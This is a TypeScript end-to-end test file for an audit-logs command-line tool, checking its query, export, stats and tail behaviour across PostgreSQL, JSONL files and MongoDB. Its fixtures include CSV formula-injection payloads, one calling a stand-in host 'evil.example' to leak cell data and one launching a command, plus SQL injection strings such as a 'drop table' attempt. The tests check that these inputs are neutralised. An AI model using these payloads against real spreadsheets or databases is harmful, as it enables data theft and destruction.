import {appendFileSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, renameSync, statSync, writeFileSync} from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import {gunzipSync, gzipSync} from 'node:zlib'
import {expect} from 'chai'
import {generateRecords} from '../../src/generate/records.js'
import {type Doc, toDocument} from '../../src/stores/mongo/documents.js'
import {repair} from '../../src/stores/postgres/partitions.js'
import {writeRecords} from '../../src/stores/postgres/writer.js'
import {execa} from 'execa'
import {BIN, runCli} from '../helpers/cli.js'
import {parseCsv} from '../helpers/csv.js'
import {type TestDatabase, count, freshDatabase} from '../helpers/db.js'
import {freshMongo, mongoServerUri} from '../helpers/mongo.js'

const readlinkSafe = (p: string) => {
  try {
    return readlinkSync(p)
  } catch {
    return ''
  }
}

describe('query and show (subprocess, real PostgreSQL and JSONL files)', function () {
  this.timeout(60_000)
  let db: TestDatabase
  let env: Record<string, string>
  let logDir: string
  const records = [...generateRecords({rows: 2000, days: 10, seed: 31})]
  records[3].response_body = 'a "quoted", comma\r\nand a new line'
  // text a spreadsheet would run as a formula (CSV injection): written by strangers, exported as text
  const FORMULAS = {
    user_id: '=HYPERLINK("http://evil.example/?"&A1)',
    user_agent: "@SUM(1+1)*cmd|' /C calc'!A0",
    session_id: '-2+3',
    trace_id: '+1',
    request_id: '\t=1',
  }
  Object.assign(records[5], FORMULAS)

  before(async () => {
    db = await freshDatabase({migrated: true})
    await writeRecords(db.client, 'request', records)
    await repair(db.client, 'month')
    env = {AUDIT_LOGS_DATABASE_URL: db.url}
    logDir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-query-files-'))
    const lines = records.map((r) => JSON.stringify({log_type: 'request', ...r}))
    writeFileSync(path.join(logDir, 'requests.jsonl'), lines.slice(0, 1200).join('\n') + '\n')
    writeFileSync(path.join(logDir, 'requests.jsonl.1.gz'), gzipSync(lines.slice(1200).join('\n') + '\n'))
  })
  after(() => db.drop())

  it('--json: matching records, newest first, at most --limit', async () => {
    const r = await runCli(['query', '--status', '>=400', '--since', '5d', '--limit', '30', '--json'], {env})
    expect(r.exitCode, r.stderr).to.equal(0)
    const rows = r.json().records
    expect(rows).to.have.length(30)
    for (const row of rows) expect(row.status_code).to.be.at.least(400)
    const times = rows.map((x: {created_at: string}) => x.created_at)
    expect([...times].sort().reverse()).to.deep.equal(times)
  })

  it('a table with the scanning columns, no colour codes off a terminal', async () => {
    const r = await runCli(['query', '--method', 'POST', '--limit', '5'], {env})
    expect(r.stdout).to.contain('time').and.contain('status').and.contain('path').and.contain('POST')
    expect(r.stdout).to.not.contain('\u001b[')
  })

  it('csv parses back to the same values', async () => {
    const cols = 'id,created_at,status_code,path,response_body'
    const csv = await runCli(['query', '--since', '10d', '--limit', '2000', '--format', 'csv', '--columns', cols], {env})
    const json = await runCli(['query', '--since', '10d', '--limit', '2000', '--json'], {env})
    const parsed = parseCsv(csv.stdout)
    expect(parsed[0]).to.deep.equal(cols.split(','))
    const byId = new Map(json.json().records.map((r: Record<string, unknown>) => [r.id, r]))
    expect(parsed.length - 1).to.equal(byId.size)
    for (const [id, created, status, p, body] of parsed.slice(1)) {
      const r = byId.get(id) as Record<string, unknown>
      expect([created, Number(status), p, body]).to.deep.equal([r.created_at, r.status_code, r.path, r.response_body ?? ''])
    }
    expect(parsed.some((row) => row[4] === 'a "quoted", comma\r\nand a new line')).to.equal(true)
  })

  it('--source files gives the same records as PostgreSQL, gzipped backups included', async () => {
    const args = ['query', '--path', '/api/**', '--status', '4xx', '--limit', '1000', '--json']
    const fromDb = (await runCli(args, {env})).json().records.map((r: {id: string}) => r.id)
    const files = await runCli([...args, '--source', 'files', '--log-dir', logDir])
    expect(files.exitCode, files.stderr).to.equal(0)
    expect(files.json().records.map((r: {id: string}) => r.id)).to.deep.equal(fromDb)
    expect(fromDb.length).to.be.greaterThan(10)
    // a log directory that does not exist, or holds no JSONL files, is an error, not "no matching records"
    const noJson = args.filter((a) => a !== '--json')
    const missing = await runCli([...noJson, '--source', 'files', '--log-dir', path.join(logDir, 'typo')])
    expect(missing.exitCode).to.equal(2)
    expect(missing.stderr).to.contain('does not exist').and.contain('--log-dir')
    const empty = await runCli([...noJson, '--source', 'files', '--log-dir', mkdtempSync(path.join(os.tmpdir(), 'audit-logs-empty-'))])
    expect(empty.exitCode).to.equal(2)
    expect(empty.stderr).to.contain('holds no requests.jsonl')
  })

  it('stats --source files and --source mongo give the same figures as PostgreSQL (the files in one pass, MongoDB in its pipelines)', async () => {
    // MongoDB where the run has a server (test/e2e/query-mongo.test.ts skips, and fails under CI, where it has none)
    const mongo = mongoServerUri() ? await freshMongo('stats') : undefined
    await mongo?.client
      .db(mongo.dbName)
      .collection<Doc>('request_logs')
      .insertMany(records.map((r) => toDocument('request', r)))
    // an absolute time: the two commands run a moment apart, and "3d" would move between them
    const since = new Date(Math.max(...records.map((r) => new Date(r.created_at as string).getTime())) - 3 * 86_400_000).toISOString()
    for (const filter of [[], ['--path', '/api/**', '--status', '>=300'], ['--since', since, '--bucket', 'hour']]) {
      const args = ['stats', ...filter, '--top', '1000', '--json']
      const fromDb = await runCli(args, {env})
      const fromFiles = await runCli([...args, '--source', 'files', '--log-dir', logDir])
      expect(fromDb.exitCode, fromDb.stderr).to.equal(0)
      expect(fromFiles.exitCode, fromFiles.stderr).to.equal(0)
      const a = fromDb.json()
      const b = fromFiles.json()
      if (mongo) {
        const fromMongo = await runCli([...args, '--source', 'mongo', '--mongo-uri', mongo.uri], {
          env: {...env, AUDIT_LOGS_MONGO_DB_NAME: mongo.dbName},
        })
        expect(fromMongo.exitCode, fromMongo.stderr).to.equal(0)
        // MongoDB orders the top lists' ties as PostgreSQL does (bytes): the same figures, in the same order
        expect(fromMongo.json(), `${filter.join(' ')} (MongoDB)`).to.deep.equal(a)
      }
      // the top lists' order among equal counts follows each store's collation: compared as sets
      for (const s of [a, b])
        for (const k of ['topPaths', 'topUsers', 'topIps'])
          s[k] = [...s[k]].sort((x: object, y: object) => JSON.stringify(x).localeCompare(JSON.stringify(y)))
      expect(b, filter.join(' ')).to.deep.equal(a)
      expect(a.total).to.be.greaterThan(50)
      expect(a.topPaths.length).to.be.lessThan(1000) // every path listed, so the sets compare whole
    }
    await mongo?.drop()
  })

  it('show --source files finds the record PostgreSQL has; an unknown id is an error on both', async () => {
    for (const r of [records[7], records[1500]]) {
      const id = String(r.id)
      const fromDb = await runCli(['show', id, '--json'], {env})
      const fromFiles = await runCli(['show', id, '--json', '--source', 'files', '--log-dir', logDir])
      expect(fromFiles.exitCode, fromFiles.stderr).to.equal(0)
      const a = fromDb.json()
      const b = fromFiles.json()
      for (const k of ['id', 'method', 'path', 'status_code', 'request_headers', 'response_body', 'user_id', 'ip', 'flags'])
        expect(b[k], k).to.deep.equal(a[k])
      expect(Date.parse(b.created_at)).to.equal(Date.parse(a.created_at))
    }
    const unknown = await runCli(['show', '01a20cc4-2be0-720d-89d3-7a27694234dc', '--source', 'files', '--log-dir', logDir])
    expect(unknown.exitCode).to.equal(2)
    expect(unknown.stderr).to.contain('No record with id')
  })

  it('CSV export neutralises cells a spreadsheet would run as formulas, from PostgreSQL and from the files', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-csv-formula-'))
    const id = String(records[5].id)
    const cols = ['user_id', 'user_agent', 'session_id', 'trace_id', 'request_id']
    const outputs = {
      'export (COPY)':
        (await runCli(['export', '--format', 'csv', '--user', FORMULAS.user_id, '--out', path.join(dir, 'a.csv')], {env}),
        readFileSync(path.join(dir, 'a.csv'), 'utf8')),
      'export --source files':
        (await runCli([
          'export',
          '--format',
          'csv',
          '--user',
          FORMULAS.user_id,
          '--source',
          'files',
          '--log-dir',
          logDir,
          '--out',
          path.join(dir, 'b.csv'),
        ]),
        readFileSync(path.join(dir, 'b.csv'), 'utf8')),
      'query --format csv': (
        await runCli(['query', '--format', 'csv', '--user', FORMULAS.user_id, '--columns', ['id', ...cols].join(',')], {env})
      ).stdout,
    }
    for (const [how, text] of Object.entries(outputs)) {
      const rows = parseCsv(text.endsWith('\r\n') ? text : text + '\r\n')
      const header = rows[0]
      const row = rows.find((r) => r[header.indexOf('id')] === id)
      expect(row, how).to.not.equal(undefined)
      for (const c of cols) expect(row![header.indexOf(c)], `${how}: ${c}`).to.equal(`'${FORMULAS[c as keyof typeof FORMULAS]}`)
      if (header.includes('status_code')) expect(row![header.indexOf('status_code')], how).to.equal(String(records[5].status_code)) // numbers untouched
    }
  })

  it('show ID and query --id print one full record', async () => {
    const id = String(records[7].id)
    const shown = await runCli(['show', id], {env})
    expect(shown.exitCode, shown.stderr).to.equal(0)
    expect(shown.stdout).to.contain(`id: ${id}`).and.contain('request_headers:')
    const viaQuery = await runCli(['query', '--id', id, '--json'], {env})
    expect(viaQuery.json().record.id).to.equal(id)
    const missing = await runCli(['show', 'not-an-id'], {env})
    expect(missing.exitCode).to.equal(2)
  })

  it('bad expressions exit 2 quoting them; injection attempts select nothing and change nothing', async () => {
    const bad = await runCli(['query', '--since', 'last tuesday'], {env})
    expect(bad.exitCode).to.equal(2)
    expect(bad.stderr).to.contain('--since "last tuesday"').and.contain('15m, 24h, 7d')
    for (const args of [
      ['--path', "/'; drop table request_logs; --"],
      ['--user', "x' or '1'='1"],
      ['--search', "%' or 1=1 --"],
    ]) {
      const r = await runCli(['query', ...args, '--json'], {env})
      expect(r.exitCode, r.stderr).to.equal(0)
      expect(r.json().records).to.deep.equal([])
    }
    expect(await count(db.client, 'request_logs')).to.equal(2000)
  })

  it('export: csv to a file, HAR 1.2, gzip, and nothing left behind on failure', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-export-'))
    const csvFile = path.join(dir, '4xx.csv')
    const r = await runCli(['export', '--status', '4xx', '--format', 'csv', '--out', csvFile, '--json'], {env})
    expect(r.exitCode, r.stderr).to.equal(0)
    const expected = records.filter((x) => Number(x.status_code) >= 400 && Number(x.status_code) < 500).length
    expect(r.json().rows).to.equal(expected)
    const rows = parseCsv(readFileSync(csvFile, 'utf8'))
    expect(rows.length - 1).to.equal(expected)
    expect(rows[0]).to.include.members(['id', 'created_at', 'status_code', 'request_headers'])
    expect(readdirSync(dir)).to.deep.equal(['4xx.csv'])
    expect(statSync(csvFile).mode & 0o777).to.equal(0o640 & ~process.umask()) // records: for the owner and its group

    const harFile = path.join(dir, 'all.har')
    expect((await runCli(['export', '--since', '10d', '--format', 'har', '--out', harFile], {env})).exitCode).to.equal(0)
    const har = JSON.parse(readFileSync(harFile, 'utf8'))
    expect(har.log.version).to.equal('1.2')
    expect(har.log.creator.name).to.equal('audit-logs')
    expect(har.log.entries).to.have.length(2000)
    for (const e of har.log.entries.slice(0, 50)) {
      expect(e).to.include.keys('startedDateTime', 'time', 'request', 'response', 'cache', 'timings')
      expect(e.request).to.include.keys('method', 'url', 'httpVersion', 'cookies', 'headers', 'queryString', 'headersSize', 'bodySize')
      expect(e.response).to.include.keys(
        'status',
        'statusText',
        'httpVersion',
        'cookies',
        'headers',
        'content',
        'redirectURL',
        'headersSize',
        'bodySize',
      )
      expect(e.response.content).to.include.keys('size', 'mimeType')
      expect(e.timings).to.include.keys('send', 'wait', 'receive')
      expect(Number.isNaN(Date.parse(e.startedDateTime))).to.equal(false)
      expect(e.request.url).to.match(/^https?:\/\//)
    }

    const gz = path.join(dir, 'all.ndjson.gz')
    expect((await runCli(['export', '--format', 'ndjson', '--gzip', '--out', gz], {env})).exitCode).to.equal(0)
    expect(gunzipSync(readFileSync(gz)).toString().trim().split('\n')).to.have.length(2000)

    const failing = await runCli(['export', '--format', 'csv', '--out', path.join(dir, 'no-such-dir', 'x.csv')], {env})
    expect(failing.exitCode).to.equal(2)
    expect(failing.stderr).to.contain(`Cannot use ${path.join(dir, 'no-such-dir')} as the directory of --out: it does not exist`)
    const intoFile = await runCli(['export', '--format', 'csv', '--out', path.join(csvFile, 'x.csv')], {env})
    expect(intoFile.exitCode).to.equal(2)
    expect(intoFile.stderr).to.contain('not a directory')
    expect(readdirSync(dir).sort()).to.deep.equal(['4xx.csv', 'all.har', 'all.ndjson.gz'])
  })

  it('stats: computed in the database, consistent with the data', async () => {
    const r = await runCli(['stats', '--json'], {env})
    expect(r.exitCode, r.stderr).to.equal(0)
    const s = r.json()
    expect(s.total).to.equal(2000)
    expect(Object.values(s.byClass as Record<string, number>).reduce((a, b) => a + b, 0)).to.equal(2000)
    expect(s.byClass['5xx']).to.equal(records.filter((x) => Number(x.status_code) >= 500).length)
    expect(s.histogram.reduce((n: number, h: {count: number}) => n + h.count, 0)).to.equal(2000)
    expect(s.durationMs.p50).to.be.at.most(s.durationMs.p95)
    expect(s.topPaths[0].count).to.be.at.least(s.topPaths[1].count)
    const hourly = await runCli(['stats', '--since', '2d', '--bucket', 'hour', '--json'], {env})
    expect(hourly.json().histogram[0].period).to.match(/T\d\d:00:00/)
  })

  it('tail follows new records until Ctrl-C', async () => {
    const child = execa(process.execPath, [BIN, 'tail', '--format', 'ndjson', '--interval', '200', '--status', '418'], {
      env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'},
      reject: false,
    })
    let out = ''
    child.stdout!.on('data', (c: Buffer) => (out += c.toString()))
    await new Promise((r) => setTimeout(r, 1500))
    const fresh = [...generateRecords({rows: 3, days: 1, seed: 99, now: new Date()})].map((x, i): Record<string, unknown> => ({
      ...x,
      created_at: new Date(Date.now() - i * 10).toISOString(),
      status_code: 418,
    }))
    await writeRecords(db.client, 'request', fresh)
    const end = Date.now() + 10_000
    while (!fresh.every((x) => out.includes(String(x.id))) && Date.now() < end) await new Promise((r) => setTimeout(r, 100))
    child.kill('SIGINT')
    const result = await child
    expect(result.exitCode).to.equal(0)
    for (const x of fresh) expect(out).to.contain(String(x.id))
    expect(out.trim().split('\n')).to.have.length(3)
  })

  it('tail polls without piling up listeners (no MaxListenersExceededWarning however long it runs)', async () => {
    const child = execa(process.execPath, [BIN, 'tail', '--interval', '100', '--status', '599'], {
      env: {...env, OCLIF_SKIP_NEW_VERSION_CHECK: '1'},
      reject: false,
    })
    // tail's connection has run its first poll once pg_stat_activity shows it; then 3 s is about 30 polls (the warning came after the 11th)
    const polling = async () =>
      (
        await db.client.query(
          "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'SELECT%request_logs%'",
        )
      ).rows[0].n > 0
    const end = Date.now() + 30_000
    while (!(await polling()) && Date.now() < end) await new Promise((r) => setTimeout(r, 100))
    expect(await polling(), 'tail never polled').to.equal(true)
    await new Promise((r) => setTimeout(r, 3000))
    child.kill('SIGINT')
    const result = await child
    expect(result.exitCode, result.stderr).to.equal(0)
    expect(result.stderr).to.not.contain('MaxListenersExceeded').and.not.contain('memory leak')
  })

  it('tail --source files follows the current JSONL file across a rotation', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-logs-tail-files-'))
    const file = path.join(dir, 'requests.jsonl')
    const old = records
      .slice(0, 5)
      .map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n')
      .join('')
    writeFileSync(file, old) // written before tail started: not shown
    const child = execa(
      process.execPath,
      [
        BIN,
        'tail',
        '--source',
        'files',
        '--log-dir',
        dir,
        '--format',
        'ndjson',
        '--interval',
        '100',
        '--method',
        'GET,POST,PUT,DELETE,PATCH,HEAD,OPTIONS',
      ],
      {env: {OCLIF_SKIP_NEW_VERSION_CHECK: '1'}, reject: false},
    )
    let out = ''
    child.stdout!.on('data', (c: Buffer) => (out += c.toString()))
    const lines = (from: number, to: number) =>
      records
        .slice(from, to)
        .map((r) => JSON.stringify({log_type: 'request', ...r}) + '\n')
        .join('')
    const shown = (from: number, to: number) => records.slice(from, to).every((r) => out.includes(String(r.id)))
    const waitFor = async (ok: () => boolean) => {
      const end = Date.now() + 20_000
      while (!ok() && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
    }
    // tail has the file open (at its end) once /proc shows it among the process's descriptors
    const fdDir = `/proc/${child.pid}/fd`
    const holdsFile = () => {
      try {
        return readdirSync(fdDir).some((fd) => readlinkSafe(path.join(fdDir, fd)) === file)
      } catch {
        return false
      }
    }
    await waitFor(holdsFile)
    expect(holdsFile(), 'tail never opened the file').to.equal(true)
    // appended in pieces, one cut mid-line
    const first = lines(10, 20)
    appendFileSync(file, first.slice(0, 100))
    appendFileSync(file, first.slice(100))
    await waitFor(() => shown(10, 20))
    // rotation: the lines written just before the rename, then the new file
    appendFileSync(file, lines(20, 25))
    renameSync(file, file + '.1')
    writeFileSync(file, lines(25, 30))
    await waitFor(() => shown(20, 30))
    // cut short in place (logrotate's copytruncate): read again from its start
    writeFileSync(file, lines(30, 33))
    await waitFor(() => shown(30, 33))
    child.kill('SIGINT')
    const result = await child
    expect(result.exitCode, result.stderr).to.equal(0)
    const ids = out
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).id)
    expect(ids).to.deep.equal(records.slice(10, 33).map((r) => r.id))
  })
})
